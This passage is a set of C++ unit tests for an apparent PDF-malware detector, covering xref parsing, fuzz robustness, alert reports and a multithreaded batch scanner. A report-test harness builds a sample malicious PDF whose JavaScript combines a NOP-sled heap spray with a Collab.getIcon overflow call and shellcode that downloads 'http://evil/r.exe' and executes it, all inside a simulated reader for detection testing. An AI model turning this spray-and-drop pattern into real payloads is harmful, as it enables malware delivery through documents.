  builder.add_pages(5, 600);
  builder.set_open_action_js("var v = 1;");
  const sp::Bytes file = builder.build();
  EXPECT_TRUE(pd::verify_xref_offsets(file).empty());
}

TEST(Xref, IncrementalUpdateChainsThroughPrev) {
  sp::Rng rng(3);
  cp::DocumentBuilder builder(rng);
  builder.add_pages(2, 300);
  builder.set_open_action_js("var v = 1;");
  const sp::Bytes base = builder.build();

  co::FrontEndOptions options;
  options.incremental_update = true;
  co::FrontEnd frontend(rng, co::generate_detector_id(rng), options);
  co::FrontEndResult fe = frontend.process(base);
  ASSERT_TRUE(fe.incremental_used);

  const auto chain = pd::read_xref_chain(fe.output);
  ASSERT_EQ(chain.size(), 2u);  // update revision + base revision
  EXPECT_TRUE(chain[0].prev.has_value());
  EXPECT_FALSE(chain[1].prev.has_value());
  // Every offset across both revisions must be exact.
  EXPECT_TRUE(pd::verify_xref_offsets(fe.output).empty());
}

TEST(Xref, CorpusOutputIsAlwaysConformant) {
  cp::CorpusGenerator gen;
  for (const auto& s : gen.generate_malicious(20)) {
    EXPECT_TRUE(pd::verify_xref_offsets(s.data).empty()) << s.name;
  }
  for (const auto& s : gen.generate_benign_with_js(10)) {
    EXPECT_TRUE(pd::verify_xref_offsets(s.data).empty()) << s.name;
  }
}

TEST(Xref, InstrumentedOutputIsConformant) {
  sp::Rng rng(4);
  co::FrontEnd frontend(rng, co::generate_detector_id(rng));
  cp::CorpusGenerator gen;
  for (const auto& s : gen.generate_malicious(10)) {
    co::FrontEndResult fe = frontend.process(s.data);
    if (!fe.ok) continue;
    EXPECT_TRUE(pd::verify_xref_offsets(fe.output).empty()) << s.name;
  }
}

TEST(Xref, HeaderJunkPrefixKeepsOffsetsExact) {
  // Header-obfuscated documents shift every byte; the table must follow.
  sp::Rng rng(5);
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js("var v = 2;");
  const sp::Bytes file = builder.build(/*header_obfuscation=*/true);
  EXPECT_TRUE(pd::verify_xref_offsets(file).empty());
}

TEST(Xref, MissingStartxrefHandled) {
  EXPECT_FALSE(pd::read_startxref(sp::to_bytes("no pdf here")).has_value());
  EXPECT_TRUE(pd::read_xref_chain(sp::to_bytes("still no pdf")).empty());
}

TEST(Xref, MalformedTableThrowsTypedError) {
  const sp::Bytes junk = sp::to_bytes("xref\n0 2\nnot-an-entry\n");
  EXPECT_THROW(pd::read_xref_section(junk, 0), sp::ParseError);
}
