// Robustness / fuzz-style property tests: hostile or corrupt inputs must
// never crash the process. Parsers and pipelines may reject input (throw
// typed errors or return !ok) but must stay memory-safe and terminate.
#include <gtest/gtest.h>

#include "core/pipeline.hpp"
#include "corpus/generator.hpp"
#include "js/parser.hpp"
#include "pdf/parser.hpp"
#include "pdf/writer.hpp"
#include "reader/reader_sim.hpp"
#include "sys/kernel.hpp"

namespace co = pdfshield::core;
namespace cp = pdfshield::corpus;
namespace js = pdfshield::js;
namespace pd = pdfshield::pdf;
namespace rd = pdfshield::reader;

namespace sp = pdfshield::support;

namespace {

// Applies `count` random byte mutations (overwrite / insert / delete).
sp::Bytes mutate(sp::Bytes data, sp::Rng& rng, int count) {
  for (int i = 0; i < count && !data.empty(); ++i) {
    const std::size_t pos = static_cast<std::size_t>(rng.below(data.size()));
    switch (rng.below(3)) {
      case 0:
        data[pos] = static_cast<std::uint8_t>(rng.below(256));
        break;
      case 1:
        data.insert(data.begin() + static_cast<std::ptrdiff_t>(pos),
                    static_cast<std::uint8_t>(rng.below(256)));
        break;
      default:
        data.erase(data.begin() + static_cast<std::ptrdiff_t>(pos));
    }
  }
  return data;
}

}  // namespace

class MutationSweep : public ::testing::TestWithParam<int> {};

TEST_P(MutationSweep, MutatedPdfsNeverCrashParserOrPipeline) {
  sp::Rng rng(static_cast<std::uint64_t>(GetParam()) * 7919u);
  cp::CorpusGenerator gen;
  auto samples = gen.generate_malicious(2);
  auto benign = gen.generate_benign_with_js(2);
  for (auto& s : benign) samples.push_back(std::move(s));

  sp::Rng frng(static_cast<std::uint64_t>(GetParam()));
  co::FrontEnd frontend(frng, co::generate_detector_id(frng));

  for (const auto& s : samples) {
    for (int burst : {1, 8, 64, 512}) {
      const sp::Bytes corrupted = mutate(s.data, rng, burst);
      // Parser: typed error or success, never a crash.
      try {
        pd::Document doc = pd::parse_document(corrupted);
        // If it parsed, the writer must be able to serialize it back.
        pd::write_document(doc);
      } catch (const sp::Error&) {
      }
      // Full pipeline: ok or clean failure.
      co::FrontEndResult r = frontend.process(corrupted);
      (void)r;
    }
  }
  SUCCEED();
}

INSTANTIATE_TEST_SUITE_P(Seeds, MutationSweep, ::testing::Range(1, 7));

TEST(Robustness, MutatedPdfsNeverCrashTheReaderHost) {
  // The *reader process* may "crash" in simulation (that is modelled
  // behaviour); the host process running the simulator must not.
  sp::Rng rng(404);
  cp::CorpusGenerator gen;
  auto samples = gen.generate_malicious(3);
  for (const auto& s : samples) {
    for (int burst : {4, 40, 400}) {
      pdfshield::sys::Kernel kernel;
      rd::ReaderSim reader(kernel);
      const sp::Bytes corrupted = mutate(s.data, rng, burst);
      EXPECT_NO_THROW(reader.open_document(corrupted, "fuzz.pdf"));
    }
  }
}

TEST(Robustness, RandomBytesAreRejectedCleanly) {
  sp::Rng rng(505);
  for (std::size_t n : {0u, 1u, 10u, 1000u, 100000u}) {
    const sp::Bytes junk = rng.bytes(n);
    EXPECT_THROW(pd::parse_document(junk), sp::Error) << n;
    sp::Rng frng(1);
    co::FrontEnd frontend(frng, co::generate_detector_id(frng));
    EXPECT_FALSE(frontend.process(junk).ok) << n;
  }
}

TEST(Robustness, JsParserSurvivesGarbageSources) {
  sp::Rng rng(606);
  // Random printable garbage and truncated real scripts.
  const std::string real =
      "var unit = unescape('%u9090'); while (unit.length < 64) unit += unit;"
      "function f(a, b) { return a + b * 2; } f(1, 2);";
  for (int i = 0; i < 200; ++i) {
    std::string src;
    if (i % 2 == 0) {
      const std::size_t len = rng.below(80);
      for (std::size_t k = 0; k < len; ++k) {
        src.push_back(static_cast<char>(32 + rng.below(95)));
      }
    } else {
      src = real.substr(0, rng.below(real.size()));
    }
    try {
      js::parse_js(src);
    } catch (const sp::Error&) {
      // typed rejection is fine
    }
  }
  SUCCEED();
}

TEST(Robustness, DeeplyNestedStructuresAreBounded) {
  // Pathological nesting must not blow the stack.
  std::string deep_js;
  for (int i = 0; i < 2000; ++i) deep_js += "(";
  deep_js += "1";
  for (int i = 0; i < 2000; ++i) deep_js += ")";
  EXPECT_NO_FATAL_FAILURE({
    try {
      js::parse_js(deep_js);
    } catch (const sp::Error&) {
    }
  });

  std::string deep_pdf = "1 0 obj\n";
  for (int i = 0; i < 2000; ++i) deep_pdf += "[";
  for (int i = 0; i < 2000; ++i) deep_pdf += "]";
  deep_pdf += "\nendobj\n";
  EXPECT_NO_FATAL_FAILURE({
    try {
      pd::parse_document(sp::to_bytes(deep_pdf));
    } catch (const sp::Error&) {
    }
  });
}

TEST(Robustness, HugeClaimedLengthsDoNotAllocateWildly) {
  // A stream claiming a 2 GB /Length in a 100-byte file must fail cleanly.
  const std::string text =
      "1 0 obj\n<< /Length 2147483647 >>\nstream\nshort\nendstream\nendobj\n";
  pd::Document doc = pd::parse_document(sp::to_bytes(text));
  const pd::Object* obj = doc.object({1, 0});
  ASSERT_NE(obj, nullptr);
  EXPECT_EQ(sp::to_string(obj->as_stream().data), "short");
}
