// Tests for the JSON writer and the §III-E alert reports.
#include <gtest/gtest.h>

#include "core/pipeline.hpp"
#include "core/report.hpp"
#include "corpus/builders.hpp"
#include "reader/reader_sim.hpp"
#include "reader/shellcode.hpp"
#include "support/json.hpp"
#include "sys/kernel.hpp"

namespace co = pdfshield::core;
namespace cp = pdfshield::corpus;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

TEST(Json, ScalarsSerialize) {
  EXPECT_EQ(sp::Json().dump(), "null");
  EXPECT_EQ(sp::Json(true).dump(), "true");
  EXPECT_EQ(sp::Json(false).dump(), "false");
  EXPECT_EQ(sp::Json(42).dump(), "42");
  EXPECT_EQ(sp::Json(2.5).dump(), "2.5");
  EXPECT_EQ(sp::Json("hi").dump(), "\"hi\"");
}

TEST(Json, StringEscaping) {
  EXPECT_EQ(sp::Json("a\"b\\c\nd").dump(), "\"a\\\"b\\\\c\\nd\"");
  EXPECT_EQ(sp::Json(std::string("\x01")).dump(), "\"\\u0001\"");
}

TEST(Json, ObjectsKeepInsertionOrder) {
  sp::Json j = sp::Json::object();
  j["zulu"] = 1;
  j["alpha"] = 2;
  EXPECT_EQ(j.dump(), "{\"zulu\":1,\"alpha\":2}");
}

TEST(Json, ArraysAndNesting) {
  sp::Json j = sp::Json::object();
  j["list"].push_back(1);
  j["list"].push_back("two");
  j["inner"]["deep"] = true;
  EXPECT_EQ(j.dump(), "{\"list\":[1,\"two\"],\"inner\":{\"deep\":true}}");
}

TEST(Json, PrettyPrintIndents) {
  sp::Json j = sp::Json::object();
  j["a"] = 1;
  const std::string out = j.dump(2);
  EXPECT_NE(out.find("{\n  \"a\": 1\n}"), std::string::npos);
}

TEST(Json, TypeMisuseThrows) {
  sp::Json arr = sp::Json::array();
  EXPECT_THROW(arr["key"] = 1, sp::LogicError);
  sp::Json obj = sp::Json::object();
  EXPECT_THROW(obj.push_back(1), sp::LogicError);
}

namespace {

struct ReportHarness {
  sy::Kernel kernel;
  sp::Rng rng{77};
  co::RuntimeDetector detector{kernel, rng};
  co::FrontEnd frontend{rng, detector.detector_id()};
  rd::ReaderSim reader{kernel};

  ReportHarness() { detector.attach(reader); }

  co::InstrumentationKey run_malicious() {
    rd::ShellcodeProgram prog;
    prog.ops.push_back({"DROP", {"http://evil/r.exe", "c:/r.exe"}});
    prog.ops.push_back({"EXEC", {"c:/r.exe"}});
    cp::DocumentBuilder builder(rng);
    builder.add_blank_page();
    builder.set_open_action_js(
        "var unit = unescape('%u9090%u9090') + '" +
        rd::encode_shellcode(prog) + "';"
        "var spray = unit; while (spray.length < 2097152) spray += spray;"
        "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
    co::FrontEndResult fe = frontend.process(builder.build());
    detector.register_document(fe.record.key, "reported.pdf", fe.features);
    reader.open_document(fe.output, "reported.pdf");
    return fe.record.key;
  }
};

}  // namespace

TEST(Report, DocumentReportCarriesVerdictAndEvidence) {
  ReportHarness h;
  const auto key = h.run_malicious();
  const std::string json = co::document_report(h.detector, key).dump(2);
  EXPECT_NE(json.find("\"verdict\": \"malicious\""), std::string::npos);
  EXPECT_NE(json.find("\"document\": \"reported.pdf\""), std::string::npos);
  EXPECT_NE(json.find("F11"), std::string::npos);  // malware-dropping feature
  EXPECT_NE(json.find("c:/r.exe"), std::string::npos);
  EXPECT_NE(json.find("\"threshold\": 10"), std::string::npos);
}

TEST(Report, UnknownKeyReportsUnknown) {
  ReportHarness h;
  co::InstrumentationKey bogus;
  bogus.detector_id = "0000000000000000";
  bogus.document_key = "ffffffffffffffff";
  const std::string json = co::document_report(h.detector, bogus).dump();
  EXPECT_NE(json.find("\"known\":false"), std::string::npos);
}

TEST(Report, SessionReportListsConfinementLedger) {
  ReportHarness h;
  h.run_malicious();
  const std::string json = co::session_report(h.detector, h.kernel).dump(2);
  EXPECT_NE(json.find("\"alerts\""), std::string::npos);
  EXPECT_NE(json.find("reported.pdf"), std::string::npos);
  EXPECT_NE(json.find("quarantine://c:/r.exe"), std::string::npos);
  EXPECT_NE(json.find("\"sandboxed_processes\""), std::string::npos);
  EXPECT_NE(json.find("\"terminated\": true"), std::string::npos);
}
