// Batch-scan engine: thread-pool semantics, scheduling-independent
// determinism (same detector id + same input => byte-identical output at
// any thread count), per-document fault isolation, and report JSON shape.
#include <atomic>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <mutex>
#include <set>
#include <thread>

#include <gtest/gtest.h>

#include "core/batch_scanner.hpp"
#include "corpus/generator.hpp"
#include "support/work_stealing_pool.hpp"

namespace pdfshield {
namespace {

using core::BatchItem;
using core::BatchOptions;
using core::BatchReport;
using core::BatchScanner;

std::vector<BatchItem> make_corpus(std::size_t benign, std::size_t malicious) {
  corpus::CorpusGenerator gen;
  std::vector<BatchItem> items;
  for (auto& s : gen.generate_benign(benign)) {
    items.push_back({s.name, std::move(s.data)});
  }
  for (auto& s : gen.generate_malicious(malicious)) {
    items.push_back({s.name, std::move(s.data)});
  }
  return items;
}

TEST(WorkStealingPool, RunsEveryTaskExactlyOnce) {
  std::atomic<int> counter{0};
  std::vector<std::atomic<int>> per_task(200);
  {
    support::WorkStealingPool pool(4, /*queue_capacity=*/3);  // backpressure
    for (int i = 0; i < 200; ++i) {
      pool.submit([&, i] {
        per_task[static_cast<std::size_t>(i)]++;
        counter++;
      });
    }
    pool.wait_idle();
    EXPECT_EQ(counter.load(), 200);
  }
  for (const auto& n : per_task) EXPECT_EQ(n.load(), 1);
}

TEST(WorkStealingPool, WorkerIndexIsStableAndInRange) {
  support::WorkStealingPool pool(3);
  EXPECT_EQ(support::WorkStealingPool::current_worker(), -1);  // caller
  std::mutex mu;
  std::set<int> seen;
  for (int i = 0; i < 50; ++i) {
    pool.submit([&] {
      const int w = support::WorkStealingPool::current_worker();
      std::lock_guard<std::mutex> lock(mu);
      seen.insert(w);
    });
  }
  pool.wait_idle();
  for (int w : seen) {
    EXPECT_GE(w, 0);
    EXPECT_LT(w, 3);
  }
}

TEST(WorkStealingPool, WaitIdleThenReuse) {
  support::WorkStealingPool pool(2);
  std::atomic<int> counter{0};
  pool.submit([&] { counter++; });
  pool.wait_idle();
  EXPECT_EQ(counter.load(), 1);
  pool.submit([&] { counter++; });
  pool.submit([&] { counter++; });
  pool.wait_idle();
  EXPECT_EQ(counter.load(), 3);
}

// Every task is pinned to worker 0's deque, so with 4 workers the only way
// the backlog drains in parallel — indeed, the only way workers 1..3 ever
// run anything — is by stealing one task at a time from worker 0's top.
TEST(WorkStealingPool, SkewedBacklogRebalancesByStealing) {
  std::atomic<int> counter{0};
  std::mutex mu;
  std::set<int> ran_on;
  {
    support::WorkStealingPool pool(4, /*queue_capacity=*/256);
    for (int i = 0; i < 200; ++i) {
      pool.submit_to(0, [&] {
        // Hold the task long enough that worker 0 cannot drain the deque
        // alone before the siblings wake up and steal.
        std::this_thread::sleep_for(std::chrono::microseconds(200));
        const int w = support::WorkStealingPool::current_worker();
        std::lock_guard<std::mutex> lock(mu);
        ran_on.insert(w);
        counter++;
      });
    }
    pool.wait_idle();
    EXPECT_EQ(counter.load(), 200);
    EXPECT_GT(pool.steals(), 0u);
  }
  EXPECT_GT(ran_on.size(), 1u);  // siblings participated
}

// The acceptance property: instrumented bytes and feature vectors are a
// pure function of (detector id, input), independent of thread count and
// scheduling.
TEST(BatchScanner, ByteIdenticalAcrossThreadCounts) {
  const std::vector<BatchItem> items = make_corpus(12, 12);

  BatchOptions base;
  base.keep_outputs = true;

  BatchOptions serial = base;
  serial.jobs = 1;
  BatchReport one = BatchScanner(serial).scan(items);

  BatchOptions wide = base;
  wide.jobs = 8;
  BatchReport eight = BatchScanner(wide).scan(items);

  ASSERT_EQ(one.docs.size(), items.size());
  ASSERT_EQ(eight.docs.size(), items.size());
  EXPECT_EQ(one.detector_id, eight.detector_id);
  for (std::size_t i = 0; i < items.size(); ++i) {
    SCOPED_TRACE(items[i].name);
    EXPECT_EQ(one.docs[i].name, eight.docs[i].name);
    EXPECT_EQ(one.docs[i].ok, eight.docs[i].ok);
    EXPECT_EQ(one.docs[i].output, eight.docs[i].output);  // byte-identical
    EXPECT_EQ(one.docs[i].output_crc32, eight.docs[i].output_crc32);
    EXPECT_EQ(one.docs[i].document_key, eight.docs[i].document_key);
    // Identical feature vectors.
    EXPECT_EQ(one.docs[i].features.js_chain_ratio,
              eight.docs[i].features.js_chain_ratio);
    EXPECT_EQ(one.docs[i].features.header_obfuscated,
              eight.docs[i].features.header_obfuscated);
    EXPECT_EQ(one.docs[i].features.hex_code_in_keyword,
              eight.docs[i].features.hex_code_in_keyword);
    EXPECT_EQ(one.docs[i].features.empty_object_count,
              eight.docs[i].features.empty_object_count);
    EXPECT_EQ(one.docs[i].features.max_encoding_levels,
              eight.docs[i].features.max_encoding_levels);
  }
}

// Re-running the same batch must also be reproducible (fixed default
// detector id + content-derived document seeds).
TEST(BatchScanner, RerunIsReproducible) {
  const std::vector<BatchItem> items = make_corpus(4, 4);
  BatchOptions options;
  options.jobs = 4;
  options.keep_outputs = true;
  BatchReport a = BatchScanner(options).scan(items);
  BatchReport b = BatchScanner(options).scan(items);
  for (std::size_t i = 0; i < items.size(); ++i) {
    EXPECT_EQ(a.docs[i].output, b.docs[i].output);
  }
}

// Distinct detector ids must produce distinct instrumented bytes (the
// detector-id half of the key is embedded in every wrapper).
TEST(BatchScanner, DetectorIdChangesOutput) {
  const std::vector<BatchItem> items = make_corpus(0, 2);
  BatchOptions a_opts;
  a_opts.keep_outputs = true;
  a_opts.detector_id = "00112233445566aa";
  BatchOptions b_opts = a_opts;
  b_opts.detector_id = "ffeeddccbbaa9988";
  BatchReport a = BatchScanner(a_opts).scan(items);
  BatchReport b = BatchScanner(b_opts).scan(items);
  ASSERT_TRUE(a.docs[0].ok);
  ASSERT_TRUE(b.docs[0].ok);
  EXPECT_NE(a.docs[0].output, b.docs[0].output);
}

// One corrupt document fails alone; the rest of the batch completes.
TEST(BatchScanner, ErrorIsolation) {
  std::vector<BatchItem> items = make_corpus(6, 6);
  // Truncate a real sample right after the header: the recovery parser
  // tolerates mid-object truncation, but a body with no complete object
  // must fail ("no PDF objects found").
  BatchItem corrupt;
  corrupt.name = "corrupt.pdf";
  corrupt.data = items[0].data;
  corrupt.data.resize(16);
  items.insert(items.begin() + 5, corrupt);
  BatchItem garbage;
  garbage.name = "garbage.bin";
  garbage.data = support::to_bytes("this is not a pdf at all");
  items.push_back(garbage);

  BatchOptions options;
  options.jobs = 4;
  BatchReport report = BatchScanner(options).scan(items);

  EXPECT_EQ(report.docs.size(), items.size());
  EXPECT_EQ(report.error_count, 2u);
  EXPECT_EQ(report.ok_count, items.size() - 2);
  EXPECT_EQ(report.timeout_count, 0u);
  EXPECT_FALSE(report.docs[5].ok);
  EXPECT_FALSE(report.docs[5].error.empty());
  EXPECT_FALSE(report.docs.back().ok);
  for (std::size_t i = 0; i < report.docs.size(); ++i) {
    if (i == 5 || i + 1 == report.docs.size()) continue;
    EXPECT_TRUE(report.docs[i].ok) << report.docs[i].error;
  }
}

// A timed-out document is abandoned and reported, not fatal. (With a
// sub-microsecond budget the watchdog virtually always fires first; if
// the document still manages to finish, ok is acceptable too.)
TEST(BatchScanner, TimeoutIsIsolated) {
  std::vector<BatchItem> items = make_corpus(2, 2);
  BatchOptions options;
  options.jobs = 2;
  options.timeout_s = 1e-7;
  // Generous reclamation window: these documents are healthy, so their
  // abandoned runners wind down quickly and get joined (keeps sanitizer
  // runs clean); reap() returns as soon as they are done.
  options.abandon_grace_s = 30;
  BatchReport report = BatchScanner(options).scan(items);
  EXPECT_EQ(report.docs.size(), items.size());
  EXPECT_EQ(report.ok_count + report.timeout_count + report.error_count,
            items.size());
  for (const auto& doc : report.docs) {
    if (doc.timed_out) {
      EXPECT_FALSE(doc.ok);
      EXPECT_NE(doc.error.find("timed out"), std::string::npos);
    }
  }
}

TEST(BatchScanner, ReportJsonShape) {
  std::vector<BatchItem> items = make_corpus(2, 2);
  BatchItem garbage;
  garbage.name = "garbage.bin";
  garbage.data = support::to_bytes("nope");
  items.push_back(garbage);

  BatchOptions options;
  options.jobs = 2;
  BatchReport report = BatchScanner(options).scan(items);
  const std::string json = report.to_json().dump(2);

  for (const char* key :
       {"\"detector_id\"", "\"jobs\"", "\"documents\"", "\"ok\"",
        "\"errors\"", "\"timeouts\"", "\"suspicious\"", "\"wall_s\"",
        "\"docs_per_s\"", "\"phase_cpu_seconds\"", "\"parse_decompress_s\"",
        "\"docs\"", "\"output_crc32\"", "\"static_features\"",
        "\"binary_sum\"", "\"document_key\"", "\"error\""}) {
    EXPECT_NE(json.find(key), std::string::npos) << "missing " << key;
  }
  EXPECT_EQ(json.find("\"output\""), std::string::npos)
      << "raw output bytes must not leak into the report";
}

TEST(BatchScanner, ScanDirectoryReadsRecursivelyAndSorted) {
  namespace fs = std::filesystem;
  const fs::path dir = fs::temp_directory_path() / "pdfshield_batch_test";
  fs::remove_all(dir);
  fs::create_directories(dir / "sub");

  corpus::CorpusGenerator gen;
  auto samples = gen.generate_benign(3);
  const auto write = [](const fs::path& p, support::BytesView data) {
    std::ofstream out(p, std::ios::binary);
    out.write(reinterpret_cast<const char*>(data.data()),
              static_cast<std::streamsize>(data.size()));
  };
  write(dir / "b.pdf", samples[0].data);
  write(dir / "a.pdf", samples[1].data);
  write(dir / "sub" / "c.pdf", samples[2].data);

  BatchOptions options;
  options.jobs = 2;
  BatchReport report = BatchScanner(options).scan_directory(dir);
  ASSERT_EQ(report.docs.size(), 3u);
  EXPECT_EQ(report.docs[0].name, "a.pdf");
  EXPECT_EQ(report.docs[1].name, "b.pdf");
  EXPECT_EQ(report.docs[2].name, "sub/c.pdf");
  EXPECT_EQ(report.ok_count, 3u);
  fs::remove_all(dir);
}

TEST(BatchScanner, DetonationVerdictsAreThreadCountIndependent) {
  // Detonation builds a private kernel + detector + reader per document,
  // so runtime verdicts are a pure function of (detector id, input bytes)
  // and must not depend on worker scheduling.
  auto items = make_corpus(2, 3);

  BatchOptions options;
  options.detonate = true;
  options.jobs = 1;
  BatchReport serial = BatchScanner(options).scan(items);
  options.jobs = 4;
  BatchReport parallel = BatchScanner(options).scan(items);

  ASSERT_EQ(serial.docs.size(), parallel.docs.size());
  EXPECT_TRUE(serial.detonated);
  EXPECT_EQ(serial.malicious_count, 3u);
  EXPECT_EQ(parallel.malicious_count, 3u);
  for (std::size_t i = 0; i < serial.docs.size(); ++i) {
    EXPECT_TRUE(serial.docs[i].detonated) << serial.docs[i].name;
    EXPECT_EQ(serial.docs[i].malicious, parallel.docs[i].malicious)
        << serial.docs[i].name;
    EXPECT_DOUBLE_EQ(serial.docs[i].malscore, parallel.docs[i].malscore)
        << serial.docs[i].name;
  }
  // Benign samples stay benign even after detonation.
  for (std::size_t i = 0; i < 2; ++i) EXPECT_FALSE(serial.docs[i].malicious);
}

// The static prefilter may only skip detonation for documents the jsstatic
// pass *proves* clean, so (a) a healthy share of the benign bulk skips,
// (b) no malicious document skips, and (c) every verdict and malscore that
// is still computed matches the unfiltered run exactly.
TEST(BatchScanner, StaticPrefilterSkipsBenignOnlyAndPreservesVerdicts) {
  const std::vector<BatchItem> items = make_corpus(12, 8);

  BatchOptions options;
  options.jobs = 4;
  options.detonate = true;
  BatchReport base = BatchScanner(options).scan(items);
  options.static_prefilter = true;
  BatchReport pref = BatchScanner(options).scan(items);

  ASSERT_EQ(base.docs.size(), pref.docs.size());
  EXPECT_TRUE(pref.static_prefilter);
  EXPECT_FALSE(base.static_prefilter);
  EXPECT_EQ(base.static_skipped_count, 0u);
  // At least 30% of the benign population (first 12 items) must skip.
  EXPECT_GE(pref.static_skipped_count, 4u);
  EXPECT_EQ(base.malicious_count, pref.malicious_count);

  for (std::size_t i = 0; i < base.docs.size(); ++i) {
    SCOPED_TRACE(base.docs[i].name);
    const auto& b = base.docs[i];
    const auto& p = pref.docs[i];
    EXPECT_FALSE(b.static_skipped);
    if (p.static_skipped) {
      // Skips are backed by a proof: the unfiltered run must agree the
      // document is benign, and the skipped document never detonated.
      EXPECT_FALSE(b.malicious);
      EXPECT_FALSE(p.detonated);
      EXPECT_FALSE(p.malicious);
    } else {
      EXPECT_EQ(b.detonated, p.detonated);
      EXPECT_EQ(b.malicious, p.malicious);
      EXPECT_DOUBLE_EQ(b.malscore, p.malscore);
    }
    // Instrumented outputs are unaffected by the extra analysis pass.
    EXPECT_EQ(b.output_crc32, p.output_crc32);
  }

  // Report JSON: the skip counter appears only when the prefilter ran.
  EXPECT_EQ(base.to_json().dump(2).find("\"static_skipped\""),
            std::string::npos);
  EXPECT_NE(pref.to_json().dump(2).find("\"static_skipped\""),
            std::string::npos);
}

TEST(BatchScanner, TraceCountsAreDeterministicAndMatchTheJsonlFile) {
  namespace fs = std::filesystem;
  const fs::path dir = fs::temp_directory_path() / "pdfshield_batch_trace";
  fs::create_directories(dir);
  auto items = make_corpus(2, 2);

  BatchOptions options;
  options.detonate = true;
  options.trace_path = (dir / "trace1.jsonl").string();
  options.jobs = 1;
  BatchReport first = BatchScanner(options).scan(items);
  options.trace_path = (dir / "trace4.jsonl").string();
  options.jobs = 4;
  BatchReport second = BatchScanner(options).scan(items);

  EXPECT_TRUE(first.traced);
  EXPECT_GT(first.trace_events, 0u);
  EXPECT_EQ(first.trace_events, second.trace_events);
  EXPECT_EQ(first.trace_counters.total, first.trace_events);
  for (std::size_t i = 0; i < first.docs.size(); ++i) {
    EXPECT_EQ(first.docs[i].trace_events, second.docs[i].trace_events)
        << first.docs[i].name;
    EXPECT_EQ(first.docs[i].trace_dropped, 0u);
  }

  // Every recorded event is one line in the JSONL file, and a detonating
  // trace carries the runtime kinds the report summary claims.
  auto count_lines = [](const fs::path& p) {
    std::ifstream in(p);
    std::string line;
    std::size_t n = 0;
    while (std::getline(in, line)) {
      EXPECT_FALSE(line.empty());
      EXPECT_EQ(line.front(), '{');
      EXPECT_EQ(line.back(), '}');
      ++n;
    }
    return n;
  };
  EXPECT_EQ(count_lines(options.trace_path), second.trace_events);
  using trace::Kind;
  EXPECT_GT(first.trace_counters.by_kind[static_cast<std::size_t>(
                Kind::kApiCall)], 0u);
  EXPECT_GT(first.trace_counters.by_kind[static_cast<std::size_t>(
                Kind::kSoapMessage)], 0u);
  EXPECT_GT(first.trace_counters.by_kind[static_cast<std::size_t>(
                Kind::kPhaseSpan)], 0u);
  EXPECT_GT(first.trace_counters.by_kind[static_cast<std::size_t>(
                Kind::kDocVerdict)], 0u);
  fs::remove_all(dir);
}

}  // namespace
}  // namespace pdfshield
