// Byte-identity pin for the arena/zero-copy memory refactor. The golden
// CRCs below were captured from the pre-refactor (owning object model)
// build over the full deterministic example corpus: instrumented output
// bytes, static feature vectors, detonation malscores and the JSONL trace
// stream must all stay exactly identical, at every --jobs width. Any drift
// here means the memory architecture changed observable behaviour.
//
// Regenerate (only for an intentional behaviour change, never for a memory
// refactor): PDFSHIELD_PRINT_GOLDEN=1 ./identity_golden_test
#include <cctype>
#include <cstdio>
#include <cstdlib>
#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "core/batch_scanner.hpp"
#include "corpus/generator.hpp"
#include "support/checksum.hpp"
#include "support/strings.hpp"

namespace pdfshield {
namespace {

using core::BatchItem;
using core::BatchOptions;
using core::BatchReport;
using core::BatchScanner;

// Captured from the seed (pre-refactor) build; identical at jobs 1/2/8.
constexpr std::uint32_t kGoldenOutputCrc = 0x42cca6d3u;
constexpr std::uint32_t kGoldenFeatureCrc = 0x623c96dbu;
constexpr std::uint32_t kGoldenVerdictCrc = 0xd87f2e3cu;
constexpr std::uint32_t kGoldenTraceCrc = 0xe3518046u;

std::vector<BatchItem> golden_corpus() {
  corpus::CorpusGenerator gen;  // fixed default seed
  std::vector<BatchItem> items;
  for (auto& s : gen.generate_benign(10)) {
    items.push_back({s.name, std::move(s.data)});
  }
  for (auto& s : gen.generate_malicious(10)) {
    items.push_back({s.name, std::move(s.data)});
  }
  return items;
}

std::uint32_t crc_of(const std::string& text) {
  return support::crc32(support::to_bytes(text));
}

/// Drops the two wall-clock fields (`t_ns`, `elapsed_s`) from one JSONL
/// trace line; everything else in the stream is deterministic.
std::string strip_time_fields(const std::string& line) {
  std::string out;
  std::size_t i = 0;
  while (i < line.size()) {
    if (line.compare(i, 8, ",\"t_ns\":") == 0 ||
        line.compare(i, 13, ",\"elapsed_s\":") == 0) {
      i = line.find_first_of(",}", line.find(':', i) + 1);
      continue;
    }
    out.push_back(line[i++]);
  }
  return out;
}

/// Canonical trace digest: timestamps stripped, lines sorted (worker
/// interleaving differs by jobs width; the set of lines must not).
std::uint32_t trace_digest(const std::string& path) {
  std::ifstream in(path);
  std::vector<std::string> lines;
  std::string line;
  while (std::getline(in, line)) lines.push_back(strip_time_fields(line));
  std::sort(lines.begin(), lines.end());
  std::string all;
  for (const std::string& l : lines) {
    all += l;
    all.push_back('\n');
  }
  return crc_of(all);
}

struct Digests {
  std::uint32_t output = 0;
  std::uint32_t features = 0;
  std::uint32_t verdicts = 0;
  std::uint32_t trace = 0;
};

Digests run_batch(const std::vector<BatchItem>& items, std::size_t jobs) {
  const std::filesystem::path trace_path =
      std::filesystem::temp_directory_path() /
      ("pdfshield_golden_" + std::to_string(jobs) + ".jsonl");

  BatchOptions options;
  options.jobs = jobs;
  options.keep_outputs = true;
  options.detonate = true;
  options.trace_path = trace_path.string();
  const BatchReport report = BatchScanner(options).scan(items);

  Digests d;
  std::string features;
  std::string verdicts;
  std::uint32_t out_crc = 0;
  for (const auto& doc : report.docs) {
    out_crc = support::crc32(doc.output, out_crc);
    features += doc.name + " " +
                support::format_double(doc.features.js_chain_ratio, 9) + " " +
                std::to_string(doc.features.header_obfuscated) + " " +
                std::to_string(doc.features.hex_code_in_keyword) + " " +
                std::to_string(doc.features.empty_object_count) + " " +
                std::to_string(doc.features.max_encoding_levels) + "\n";
    verdicts += doc.name + " " + std::to_string(doc.ok) + " " +
                std::to_string(doc.malicious) + " " +
                support::format_double(doc.malscore, 9) + "\n";
  }
  d.output = out_crc;
  d.features = crc_of(features);
  d.verdicts = crc_of(verdicts);
  d.trace = trace_digest(trace_path.string());
  std::filesystem::remove(trace_path);
  return d;
}

